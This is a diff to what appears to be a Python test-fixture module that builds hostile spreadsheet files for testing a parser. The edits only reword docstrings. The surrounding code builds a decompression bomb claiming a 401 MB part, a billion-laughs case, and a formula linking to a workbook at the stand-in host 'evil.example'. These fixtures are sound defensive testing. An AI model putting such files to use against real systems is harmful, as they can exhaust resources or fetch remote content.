@@ -11,7 +11,8 @@ import openpyxl
 
 
 def write_xlsx(path: Path, **sheets: list[list[Any]]) -> Path:
-    """A workbook with these sheets; a cell may be a value or a pair of value and number format."""
+    """Write a workbook with these sheets; a cell may be a value or a pair of value and number
+    format."""
     book = openpyxl.Workbook()
     book.remove(book.active)
     for title, rows in sheets.items():
@@ -31,8 +32,8 @@ def _moment() -> datetime.datetime:
 
 
 def price_list(path: Path) -> Path:
-    """Two sheets: a title above a table with merged cells, formats and a formula; and a hidden
-    one."""
+    """Write two sheets: a title above a table with merged cells, formats and a formula; and a
+    hidden one."""
     rows: list[list[Any]] = [
         ["2024 年价目表"],
         [],
@@ -68,14 +69,14 @@ _NAMESPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 
 
 def xlsx_with_sheet(path: Path, data: str, *, before: str = "") -> Path:
-    """A workbook whose only sheet has this XML."""
+    """Write a workbook whose only sheet has this XML."""
     write_xlsx(path, A=[["x", "y"]])
     sheet = f'{before}<worksheet xmlns="{_NAMESPACE}"><sheetData>{data}</sheetData></worksheet>'
     return _replace_part(path, _SHEET, sheet)
 
 
 def xlsx_bomb(path: Path) -> Path:
-    """An archive that says of a part that it unpacks to more XML than any sheet has."""
+    """Write an archive that says of a part that it unpacks to more XML than any sheet has."""
     return claim_size(write_xlsx(path, A=[["x", "y"]]), "xl/worksheets/sheet9.xml", 401 << 20)
 
 
@@ -96,7 +97,7 @@ def xlsx_billion_laughs(path: Path) -> Path:
 
 
 def xlsx_of_wide_rows(path: Path) -> Path:
-    """Little XML for billions of cells: each row has one cell, in the last column."""
+    """Write little XML for billions of cells: each row has one cell, in the last column."""
     rows = "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 2_000))
     return xlsx_with_sheet(path, rows)
 
@@ -106,7 +107,8 @@ def xlsx_with_nested_elements(path: Path) -> Path:
 
 
 def xlsx_with_a_macro_and_a_link(path: Path) -> Path:
-    """A program, and a formula that would fetch from another file; its last result is stored."""
+    """Write a program, and a formula that would fetch from another file; its last result is
+    stored."""
     row = (
         '<row r="1"><c r="A1" t="str"><f>\'http://evil.example/[x.xlsx]S\'!A1</f><v>stored</v></c>'
         '<c r="B1"><f>1+1</f><v>2</v></c></row>'
